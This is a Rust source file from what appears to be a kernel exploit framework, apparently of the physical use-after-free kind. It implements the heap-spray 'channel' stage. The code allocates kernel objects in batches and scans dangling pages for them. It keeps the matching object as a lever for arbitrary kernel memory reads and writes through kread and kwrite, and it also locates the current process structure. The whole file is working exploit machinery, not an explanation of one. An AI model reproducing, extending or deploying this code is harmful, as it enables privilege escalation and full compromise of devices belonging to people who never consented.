//! Per-direction spray state.
//!
//! A channel owns one technique instance and drives it through the spray
//! lifecycle: allocate objects batch by batch, scan the head of every puaf
//! page for one of them, then keep the confirmed object as the kernel
//! access lever while sweeping the rest away. The read and write channels
//! are fully symmetric; only the primitive exercised at the end differs.

use indicatif::MultiProgress;
use log::{debug, error, info};

use crate::puaf::PuafPages;
use crate::select::ConfigError;
use crate::session::{RunError, SessionConfig};
use crate::technique::{ChannelRole, FoundObject, Technique, TechniqueError};
use crate::util::{self, PAGE_SIZE, SEARCH_STRIDE, SEARCH_WINDOW};

/// One direction of kernel access, backed by a spray technique.
pub struct Channel {
    role: ChannelRole,
    technique: Box<dyn Technique>,
    allocated_id: u64,
    searched_id: u64,
    found: Option<FoundObject>,
    current_proc: Option<u64>,
}

impl Channel {
    /// Initializes the technique and wraps it into a channel.
    ///
    /// # Panics
    ///
    /// Panics if the technique reports an object size that is zero, not
    /// 8-byte aligned, or too large to fit whole objects behind the scan
    /// window of a page.
    pub(crate) fn new(role: ChannelRole, mut technique: Box<dyn Technique>) -> Result<Self, ConfigError> {
        technique.init().map_err(ConfigError::TechniqueInit)?;
        let object_size = technique.object_size();
        assert!(object_size > 0, "{}: object size must be nonzero", technique.name());
        assert!(
            object_size % SEARCH_STRIDE == 0,
            "{}: object size {} is not a multiple of the scan stride",
            technique.name(),
            object_size
        );
        assert!(
            object_size <= PAGE_SIZE - SEARCH_WINDOW,
            "{}: object size {} exceeds 15/16 of a page",
            technique.name(),
            object_size
        );
        Ok(Self {
            role,
            technique,
            allocated_id: 0,
            searched_id: 0,
            found: None,
            current_proc: None,
        })
    }

    /// Sprays objects until one lands in a puaf page.
    ///
    /// Objects are allocated with consecutive ids in batches of one page
    /// worth. After each batch the head of every puaf page is scanned at
    /// 8-byte strides with the batch's ids as search candidates; the first
    /// match in page order, then offset order, wins. Reaching the
    /// technique's id ceiling without a match is fatal and dumps every
    /// puaf page for postmortem analysis.
    pub(crate) fn spray(
        &mut self,
        puaf: &PuafPages,
        config: &SessionConfig,
        progress: Option<&MultiProgress>,
    ) -> Result<(), RunError> {
        let object_size = self.technique.object_size();
        let batch_size = (PAGE_SIZE / object_size) as u64;
        let maximum_id = self.technique.maximum_id();
        info!(
            "{}: spraying {} byte objects via {}, batch = {}, ceiling = {}",
            self.role,
            object_size,
            self.technique.name(),
            batch_size,
            maximum_id
        );
        let bar = progress.map(|mp| util::phase_bar(mp, &format!("{} spray", self.role), maximum_id));

        let found = 'spray: loop {
            // The last batch before the ceiling may be partial.
            let batch_end = (self.allocated_id + batch_size).min(maximum_id);
            for id in self.allocated_id..batch_end {
                self.technique.allocate(id)?;
                self.allocated_id = id + 1;
            }
            if let Some(bar) = &bar {
                bar.set_position(self.allocated_id);
            }
            for &page in puaf.iter() {
                for offset in (0..config.search_window).step_by(SEARCH_STRIDE) {
                    let uaddr = page + offset;
                    if let Some(id) = self
                        .technique
                        .search(self.searched_id..self.allocated_id, uaddr)
                    {
                        break 'spray FoundObject { id, uaddr };
                    }
                }
            }
            // Every page came up empty for this batch; do not rescan its
            // ids on the next pass.
            self.searched_id = self.allocated_id;
            if self.allocated_id == maximum_id {
                if let Some(bar) = &bar {
                    bar.abandon();
                }
                self.dump_puaf_pages(puaf);
                return Err(RunError::SprayExhausted {
                    role: self.role,
                    maximum_id,
                });
            }
        };
        if let Some(bar) = &bar {
            bar.finish();
        }

        info!(
            "{} ---> object_id = {}, object_uaddr = {:#x}, object_size = {}, allocated_id = {}/{}, batch_size = {}",
            self.role, found.id, found.uaddr, object_size, self.allocated_id, maximum_id, batch_size
        );
        if log::log_enabled!(log::Level::Debug) {
            debug!(
                "{} object bytes:\n{}",
                self.role,
                util::hexdump(&copy_bytes(found.uaddr, object_size))
            );
        }
        self.found = Some(found);
        if self.current_proc.is_none() {
            self.current_proc = self.technique.find_proc(&found);
            if let Some(proc) = self.current_proc {
                info!("{}: current_proc = {:#x}", self.role, proc);
            }
        }
        Ok(())
    }

    fn dump_puaf_pages(&self, puaf: &PuafPages) {
        error!(
            "{}: allocated {} objects without landing one in a puaf page",
            self.role, self.allocated_id
        );
        for (index, &page) in puaf.iter().enumerate() {
            error!(
                "puaf page {} at {:#x}:\n{}",
                index,
                page,
                util::hexdump(&copy_bytes(page, PAGE_SIZE))
            );
        }
    }

    /// Releases every sprayed object except the confirmed one.
    pub(crate) fn sweep(&mut self, progress: Option<&MultiProgress>) {
        let keep = self.found.map(|found| found.id);
        let bar = progress.map(|mp| util::phase_bar(mp, &format!("{} sweep", self.role), self.allocated_id));
        for id in 0..self.allocated_id {
            if Some(id) == keep {
                continue;
            }
            self.technique.deallocate(id);
            if let Some(bar) = &bar {
                bar.inc(1);
            }
        }
        if let Some(bar) = &bar {
            bar.finish();
        }
        info!(
            "{}: swept {} sprayed objects, kept id {:?}",
            self.role,
            self.allocated_id.saturating_sub(keep.map_or(0, |_| 1)),
            keep
        );
    }

    /// Reads kernel memory through the confirmed object.
    ///
    /// # Panics
    ///
    /// Panics if no object has been confirmed yet.
    pub fn kread(&mut self, kaddr: u64, data: &mut [u8]) -> Result<(), TechniqueError> {
        let found = self
            .found
            .expect("kread requires a confirmed object from a successful run");
        self.technique.kread(&found, kaddr, data)
    }

    /// Writes kernel memory through the confirmed object.
    ///
    /// # Panics
    ///
    /// Panics if no object has been confirmed yet.
    pub fn kwrite(&mut self, data: &[u8], kaddr: u64) -> Result<(), TechniqueError> {
        let found = self
            .found
            .expect("kwrite requires a confirmed object from a successful run");
        self.technique.kwrite(&found, data, kaddr)
    }

    /// Releases the remaining technique resources, including the confirmed
    /// object.
    pub(crate) fn free(&mut self) {
        self.technique.free();
        self.found = None;
    }

    /// The direction this channel serves.
    pub fn role(&self) -> ChannelRole {
        self.role
    }

    /// Family name of the backing technique.
    pub fn technique_name(&self) -> &'static str {
        self.technique.name()
    }

    /// The confirmed object, once the spray has succeeded.
    pub fn found(&self) -> Option<FoundObject> {
        self.found
    }

    /// Kernel address of the current process, if the technique resolved it.
    pub fn current_proc(&self) -> Option<u64> {
        self.current_proc
    }

    /// Number of objects allocated so far.
    pub fn allocated_id(&self) -> u64 {
        self.allocated_id
    }

    /// Allocation ceiling of the backing technique.
    pub fn maximum_id(&self) -> u64 {
        self.technique.maximum_id()
    }
}

fn copy_bytes(uaddr: usize, len: usize) -> Vec<u8> {
    let mut bytes = vec![0u8; len];
    unsafe {
        std::ptr::copy_nonoverlapping(uaddr as *const u8, bytes.as_mut_ptr(), len);
    }
    bytes
}
